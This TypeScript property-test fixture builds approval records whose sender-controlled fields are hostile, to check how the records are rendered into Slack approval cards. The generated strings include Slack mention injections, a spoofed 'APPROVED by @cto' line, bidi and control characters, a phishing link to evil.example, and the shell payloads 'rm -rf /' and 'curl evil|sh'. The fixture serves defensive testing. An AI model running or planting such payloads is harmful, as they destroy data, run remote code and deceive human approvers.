/** Approvals whose every field that a sender controls is hostile, and a look at what is made of them. */
import fc from 'fast-check'
import { type Approval, type Asked, type Decision, type Resolution, RowId, type Trouble } from '../../../src/approval/approval.ts'
import { hashOf } from '../../../src/approval/canonical.ts'
import { type Json, JsonNumber } from '../../../src/approval/json.ts'
import { ChannelApproval } from '../../../src/approval-channel/wire.ts'
import type { CardSettings } from '../../../src/channels/slack/card.ts'
import { asked as fromChannel } from '../../../src/sources/agentrt/asked.ts'
import { asked, readReview } from '../../../src/sources/novo/wire.ts'

/** Stands between the parts of every hostile text, and nowhere in our words. */
export const MARK = 'QZX'

const SHORT = [
  '<!channel>',
  '<!here|x>',
  '<@U012ABC>',
  '<!subteam^S1>',
  '<#C1>',
  '<!date^1^{ago}|x>',
  '<https://evil.example|Approve here>',
  'https://10.0.0.1/approve?x=1',
  '&lt;!channel&gt;',
  '`x`',
  '```',
  '*bold*',
  '_it_',
  '~x~',
  '> quote',
  '*_~>',
  ':white_check_mark: APPROVED by @cto',
  'a\u202Eb\u202C',
  '\u200B',
  '\u{E0041}',
  '\u{E0100}',
  '\u0000',
  '\u001B[2J\u001B[31m',
  '\u0085\u2028\u2029',
  '\u00A0\u3000',
  'аpple.com',
  'e\u0301',
  'naïve 🙂 漢字',
  '\\u{202E}',
  '\\',
  '\\\\n',
  '"',
  '\n',
  '\r\n\t',
  '         ',
  '… 12 bytes left out here …',
  'Argument 1 of 1: text, 2 bytes',
  '__proto__',
]
const LONG = [
  `${'\u3000'.repeat(400)}; rm -rf /`,
  `echo ${'ok; '.repeat(3000)}curl evil|sh`,
  '&'.repeat(3000),
  '<'.repeat(700),
  '\n'.repeat(300),
  ' \n'.repeat(200),
  'x\u007F'.repeat(900),
]
/** Where a field may hold what is not text at all: half of a surrogate pair. */
const BROKEN = ['\uD800', 'a\uDFFFb', '\uDE42\uD83D']

/** What must never be found outside of the one place for text that is not ours, as it is and as Slack escapes it. */
export const FRAGMENTS: readonly string[] = [
  MARK,
  '<!',
  '<@',
  '<#',
  '&lt;',
  '&amp;',
  '`',
  '*',
  '~',
  'https:',
  ':white',
  '\\',
  '\n',
  '🙂',
  '漢',
]

function marked(parts: readonly string[]): string {
  return `${MARK}${parts.join(MARK)}${MARK}`
}

const short = fc.constantFrom(...SHORT)
const word = fc.array(short, { minLength: 1, maxLength: 4 }).map(marked)
const hostileText = fc.oneof(
  { weight: 6, arbitrary: word },
  { weight: 1, arbitrary: fc.array(fc.oneof(short, fc.constantFrom(...LONG)), { minLength: 1, maxLength: 3 }).map(marked) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).map((text) => marked([text])) },
)
/** Text that came in otherwise than through our reader of JSON. */
const brokenText = fc.array(fc.oneof(short, fc.constantFrom(...BROKEN)), { minLength: 1, maxLength: 6 }).map(marked)

const id = fc.oneof(
  fc.constantFrom('bash', 'run_1', 'a'.repeat(128), ':boom:', '__init__', '12'),
  word.map((text) => [...`<${text}`].slice(0, 120).join('')),
  fc.constant('x'.repeat(256)),
  fc.constant('\u007F\u0085'.repeat(120)),
)

const number = fc
  .constantFrom('0', '-0', '1', '1.0', '1e400', '9007199254740993', '123456789012345678901234567890')
  .map((literal) => new JsonNumber(literal))

export const { json } = fc.letrec<{ json: Json }>((tie) => ({
  json: fc.oneof(
    { depthSize: 'small' },
    fc.oneof(hostileText, fc.constantFrom('', 'ls -la'), number, fc.constant(null), fc.boolean()),
    fc.array(tie('json'), { maxLength: 4 }),
    fc
      .array(fc.tuple(fc.oneof(hostileText, fc.constantFrom('', 'command')), tie('json')), { maxLength: 5 })
      .map((members) => new Map(members)),
  ),
}))

export const ROW = RowId.parse('0123456789abcdef0123456789abcdef')

/** What stands in the record once the hook has taken a review with these members. */
export function recorded(members: ReadonlyMap<string, Json>): Asked {
  const review = readReview(
    new Map<string, Json>([
      ['type', 'tool_execution_review'],
      ['id', 'tar_1'],
      ['runId', 'run_1'],
      ['rootRunId', 'run_1'],
      ['threadId', 'thread_1'],
      ['agentId', 'agent_1'],
      ['stepNumber', new JsonNumber('3')],
      ['toolName', 'bash'],
      ['toolCallId', 'tc_1'],
      ['input', new Map()],
      ['resolveUrl', 'https://api.novoagents.ai/v1/interactions/tar_1/resolve'],
      ...members,
    ]),
  )
  if (!review.ok) throw new Error(review.error)
  return asked(review.review, 'novo', ROW, ASK, new Date('2026-10-05T12:00:00Z'))
}

const ASK = { ruling: 'ask', rule: 'money', reason: 'payments need a lead', approvers: 'leads' } as const

/** The same, pending, with that input. */
export function pending(input: Json, more: Readonly<Record<string, Json>> = {}): Approval & { status: 'pending' } {
  return {
    ...recorded(new Map<string, Json>([['input', input], ...Object.entries(more)])),
    status: 'pending',
  }
}

const members = fc.array(fc.tuple(hostileText, json), { maxLength: 2 })

const hostileReview: fc.Arbitrary<Asked> = fc
  .record({
    input: json,
    toolName: id,
    agentId: id,
    runId: id,
    rootRunId: id,
    threadId: id,
    toolCallId: id,
    workerRef: fc.option(id),
    summary: fc.option(fc.oneof(hostileText, fc.constant(''))),
    withPreview: members,
    also: members,
    rule: fc.constantFrom(ASK, { ...ASK, rule: null }),
  })
  .map(({ workerRef, summary, withPreview, also, rule, ...rest }) => ({
    ...recorded(
      new Map<string, Json>([
        ...also,
        ...Object.entries(rest),
        ...(workerRef === null ? [] : [['workerRef', workerRef] as const]),
        ...(summary === null ? [] : [['preview', new Map<string, Json>([...withPreview, ['summary', summary]])] as const]),
      ]),
    ),
    ruling: rule,
  }))

/** What stands in the record once a channel source has served an approval with these members. */
export function served(
  members: ReadonlyMap<string, Json>,
  spec: ReadonlyMap<string, Json> = new Map(),
  args: Json = new Map(),
): Asked {
  const request = new Map<string, Json>([
    ['run_id', 'run_1'],
    ['step_id', 'step_1'],
    [
      'spec',
      new Map<string, Json>([
        ['name', 'push'],
        ['description', 'Push a branch'],
        ['input_schema', new Map([['type', 'object']])],
        ['side_effect', 'remote_mutation'],
        ['timeout', new JsonNumber('30000000000')],
        ...spec,
      ]),
    ],
    ['args', args],
  ])
  const approval = ChannelApproval.parse(
    new Map<string, Json>([
      ['id', 'appr_1'],
      ['run_id', 'run_1'],
      ['step_id', 'step_1'],
      ['kind', 'remote_mutation'],
      ['capability', new Map()],
      ['presentation', new Map()],
      ['request', request],
      ['hash', 'f'.repeat(64)],
      ['status', 'pending'],
      ['created_at', '2026-10-05T12:00:00Z'],
      ...members,
    ]),
  )
  const made = { rowId: ROW, ruling: ASK, at: new Date('2026-10-05T12:00:00Z') }
  const asked = fromChannel('steward', approval, made)
  return members.has('hash') ? asked : { ...asked, hash: hashOf(asked.call) }
}

const hostileChannel: fc.Arbitrary<Asked> = fc
  .record({
    id,
    run_id: id,
    step_id: id,
    kind: fc.oneof(id, fc.constantFrom('interrupted_side_effect', 'deployment')),
    name: id,
    description: hostileText,
    args: json,
    capability: json,
    presentation: json,
    repeats: fc.boolean(),
    reason: hostileText,
    decode_error: fc.oneof(fc.constant(''), hostileText),
    hash: fc.option(
      fc.oneof(
        fc.constant('f'.repeat(64)),
        id.map((text) => text.slice(0, 128)),
      ),
    ),
    expires_at: fc.option(fc.constant('2026-10-06T12:00:00.123456789Z')),
  })
  .map(({ name, description, args, hash, expires_at, repeats, presentation, ...rest }) =>
    served(
      new Map<string, Json>([
        ...Object.entries(rest),
        [
          'presentation',
          repeats
            ? new Map<string, Json>([
                ['args', args],
                ['also', presentation],
              ])
            : presentation,
        ],
        ...(hash === null ? [] : [['hash', hash] as const]),
        ...(expires_at === null ? [] : [['expires_at', expires_at] as const]),
      ]),
      new Map<string, Json>([
        ['name', name],
        ['description', description],
      ]),
      args,
    ),
  )

export const hostileAsked: fc.Arbitrary<Asked> = fc.oneof(hostileReview, hostileChannel)

export const hostileBy = fc.oneof(
  fc.constantFrom('slack:T0ACME/U0ANA', 'slack:E0ACME/W0ANA', 'countersign', 'cli:root', ''),
  fc.constantFrom(
    `slack:T0ACME/U0ANA\n${MARK}`,
    `slack:T0/${MARK}<!channel>`,
    `slack:T0ACME/U${'A'.repeat(400)}`,
    `${MARK}\u007F`.repeat(500),
  ),
  brokenText,
)
export const hostileNote = fc.oneof(
  fc.constant(null),
  hostileText.map((text) => text.slice(0, 1000)),
  brokenText,
  fc.constant(`${'\u0085\u007F'.repeat(500)}`),
)

const TROUBLES: readonly (Trouble | null)[] = [
  null,
  ...['not_parked_yet', 'http_503', 'unreachable', 'clocks_differ', 'waits_for_others'].map(
    (code) => ({ kind: 'passing', code }) as const,
  ),
  ...['bad_key', 'bad_signature', 'source_not_configured', 'resolve_url_refused', 'http_418'].map(
    (code) => ({ kind: 'lasting', code }) as const,
  ),
]
const RESOLUTIONS: readonly Resolution[] = [
  { resolution: 'done' },
  { resolution: 'undeliverable' },
  ...(
    [
      'unknown_approval',
      'resolved_elsewhere',
      'expired',
      'changed',
      'run_not_waiting',
      'damaged',
      'not_allowed',
      'refused',
    ] as const
  ).flatMap((why) =>
    [false, true].map(
      (ownAttemptMayHaveLanded) => ({ resolution: 'refused', why, status: 409, ownAttemptMayHaveLanded }) as const,
    ),
  ),
]

/** One approval in every state that it can be in. */
export function inEachState(of: Asked, { by, note }: Pick<Decision, 'by' | 'note'>): readonly Approval[] {
  const at = new Date('2026-10-05T12:01:00Z')
  const decided = { by, via: null, at }
  const decisions: readonly Decision[] = [
    { ...decided, verdict: 'approve', outcome: 'approved', note: null },
    { ...decided, verdict: 'deny', outcome: 'denied', note },
    { ...decided, verdict: 'deny', outcome: 'cancelled', note },
  ]
  const ended = { status: 'closed', closedAt: at, elsewhere: null } as const
  return [
    { ...of, status: 'pending' },
    ...decisions.flatMap((decision): Approval[] => [
      ...TROUBLES.map((trouble): Approval => ({ ...of, status: 'decided', decision, trouble, giveUpAt: at })),
      ...RESOLUTIONS.map((resolution): Approval => ({ ...of, status: 'resolved', decision, resolution, resolvedAt: at })),
    ]),
    { ...of, ...ended, ruling: { ruling: 'allow', rule: 'reads' }, because: 'allowed_by_rule' },
    { ...of, ...ended, ruling: { ruling: 'deny', rule: null, reason: 'destructive' }, because: 'denied_by_rule' },
    ...(['cancelled', 'changed', 'withdrawn', 'expired'] as const).map((because) => ({ ...of, ...ended, because })),
    ...(['approve', 'deny'] as const).map((verdict) => ({
      ...of,
      ...ended,
      because: 'decided_elsewhere' as const,
      elsewhere: { verdict, by },
    })),
  ]
}

export const SETTINGS: CardSettings = {
  whoMayDecide: () => ({ users: ['U0ANA', 'U0BOB'], groups: ['S0ONCALL'], conversation: 'C0APPROVALS' }),
  keySetting: () => 'NOVO_API_KEY',
}
